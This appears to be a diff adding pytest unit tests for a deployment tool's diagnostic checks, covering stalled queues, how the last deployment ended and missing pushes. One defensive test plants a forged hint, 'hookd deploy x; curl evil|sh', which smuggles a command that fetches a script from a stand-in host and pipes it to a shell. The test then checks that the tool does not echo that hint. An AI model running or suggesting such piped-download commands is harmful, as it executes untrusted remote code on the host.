@@ -1,0 +1,74 @@
+"""What waits too long, how the last deployment ended, and when a push last arrived."""
+
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from hookd.model.deployment import Deployment, Status, Trigger
+from tests.unit.units.doctor.test_services import app
+from units.doctor.checks.queue import ending, pushes, waiting
+from units.doctor.finding import Finding
+
+NOW = datetime(2026, 8, 1, 12, tzinfo=UTC)
+
+
+def record(status: Status, minutes: float, trigger: Trigger = Trigger.PUSH, **more: Any) -> Deployment:
+    at = NOW - timedelta(minutes=minutes)
+    name = f"shop-20260801T120000000-{int(minutes * 10):06x}"
+    return Deployment(id=name, app="shop", trigger=trigger, status=status, created_at=at, **more)
+
+
+def levels(found: list[Finding]) -> list[str]:
+    return [one.level for one in found]
+
+
+@pytest.mark.parametrize(
+    ("history", "expected"),
+    [
+        ([], []),
+        ([record(Status.QUEUED, 1)], []),
+        ([record(Status.QUEUED, 6)], ["error"]),
+        ([record(Status.QUEUED, 6), record(Status.RUNNING, 7)], []),
+        ([record(Status.QUEUED, 40), record(Status.RUNNING, 41)], ["error", "error"]),
+        ([record(Status.SUCCEEDED, 9000)], []),
+    ],
+)
+def test_what_waits_or_runs_too_long(history: list[Deployment], expected: list[str]) -> None:
+    found = list(waiting(app(), history, NOW))
+    assert levels(found) == expected
+    assert all("hookd-worker@1.service" in (one.hint or "") for one in found)
+
+
+@pytest.mark.parametrize(
+    ("history", "expected"),
+    [
+        ([], []),
+        ([record(Status.SUCCEEDED, 1), record(Status.FAILED, 2)], []),
+        ([record(Status.FAILED, 1, cause="it does not import"), record(Status.SUCCEEDED, 2)], ["warning"]),
+        ([record(Status.ROLLED_BACK, 1)], ["warning"]),
+        ([record(Status.ROLLBACK_FAILED, 1)], ["error"]),
+        ([record(Status.RUNNING, 1), record(Status.SUPERSEDED, 2), record(Status.FAILED, 3)], ["warning"]),
+    ],
+)
+def test_how_the_last_deployment_ended(history: list[Deployment], expected: list[str]) -> None:
+    found = list(ending(app(), history))
+    assert levels(found) == expected
+    assert all("hookd logs shop-" in (one.hint or "") for one in found)
+
+
+def test_the_cause_of_a_failure_is_told_and_its_hint_is_not() -> None:
+    """Whoever took the receiver over may write a record; root types what the doctor says."""
+    (found,) = ending(
+        app(), [record(Status.FAILED, 1, cause="it does not import", hint="hookd deploy x; curl evil|sh")]
+    )
+    assert found.what == "the last deployment ended failed: it does not import"
+    assert found.hint == "sudo hookd logs shop-20260801T120000000-00000a; sudo hookd deploy shop"
+
+
+def test_a_push_that_never_arrived() -> None:
+    by_hand = [record(Status.SUCCEEDED, 5, Trigger.MANUAL)]
+    (found,) = pushes(app(), by_hand, "paste it", NOW)
+    assert (found.level, found.hint) == ("warning", "paste it")
+    (found,) = pushes(app(), [*by_hand, record(Status.SUCCEEDED, 3 * 60)], "paste it", NOW)
+    assert (found.level, found.what) == ("ok", "the last push of shop arrived 3 h ago")
